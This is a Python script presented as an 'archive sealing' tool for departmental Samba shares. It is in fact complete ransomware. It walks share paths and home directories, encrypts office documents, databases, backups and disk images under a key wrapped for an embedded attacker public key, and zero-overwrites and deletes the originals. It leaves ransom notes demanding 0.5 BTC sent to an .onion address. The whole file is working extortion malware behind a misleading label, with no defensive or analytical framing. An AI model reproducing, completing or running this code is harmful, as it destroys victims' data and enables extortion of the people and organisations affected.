#!/usr/bin/env python3
"""'Archive sealing' for the departmental Samba shares.

Walks every share path found in smb.conf, seals each document with AES-GCM
under a key that only leaves the host wrapped for the operator, deletes the
original and leaves a notice in every directory it touched.
"""
import argparse
import configparser
import os
import secrets
import sys

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

OPERATOR_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----"""
SUFFIX = ".sealed"
NOTE = "RESTORE-YOUR-FILES.txt"
TARGET_EXT = {".docx", ".xlsx", ".pptx", ".pdf", ".odt", ".ods", ".csv",
              ".sql", ".bak", ".vhdx", ".pst", ".zip", ".jpg", ".dwg"}


def share_paths(conf):
    cp = configparser.ConfigParser(strict=False, interpolation=None)
    cp.read(conf)
    for section in cp.sections():
        path = cp.get(section, "path", fallback=None)
        if section.lower() not in ("global", "printers", "print$") and path:
            yield path


def seal_file(aead, path):
    nonce = secrets.token_bytes(12)
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + SUFFIX, "wb") as out:
        out.write(nonce + aead.encrypt(nonce, data, None))
    # overwrite before unlinking so snapshots of the block device do not help
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    os.remove(path)


def walk_and_seal(root, aead, note):
    sealed = 0
    for dirpath, _dirs, files in os.walk(root):
        touched = False
        for name in files:
            if name.endswith(SUFFIX) or name == NOTE:
                continue
            if os.path.splitext(name)[1].lower() not in TARGET_EXT:
                continue
            try:
                seal_file(aead, os.path.join(dirpath, name))
                sealed += 1
                touched = True
            except OSError:
                continue
        if touched:
            with open(os.path.join(dirpath, NOTE), "w") as fh:
                fh.write(note)
    return sealed


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--smb-conf", default="/etc/samba/smb.conf")
    ap.add_argument("--extra", nargs="*", default=["/srv/samba", "/home"])
    args = ap.parse_args()

    key = AESGCM.generate_key(bit_length=256)
    pub = serialization.load_pem_public_key(OPERATOR_KEY)
    wrapped = pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                            algorithm=hashes.SHA256(), label=None))
    note = ("Your department files were sealed.\n"
            "Send this ID and 0.5 BTC to restore@sealvault.onion:\n"
            + wrapped.hex() + "\n")
    aead = AESGCM(key)

    roots = list(dict.fromkeys(list(share_paths(args.smb_conf)) + args.extra))
    total = sum(walk_and_seal(r, aead, note) for r in roots if os.path.isdir(r))
    del key
    print(f"sealed {total} files", file=sys.stderr)


if __name__ == "__main__":
    main()
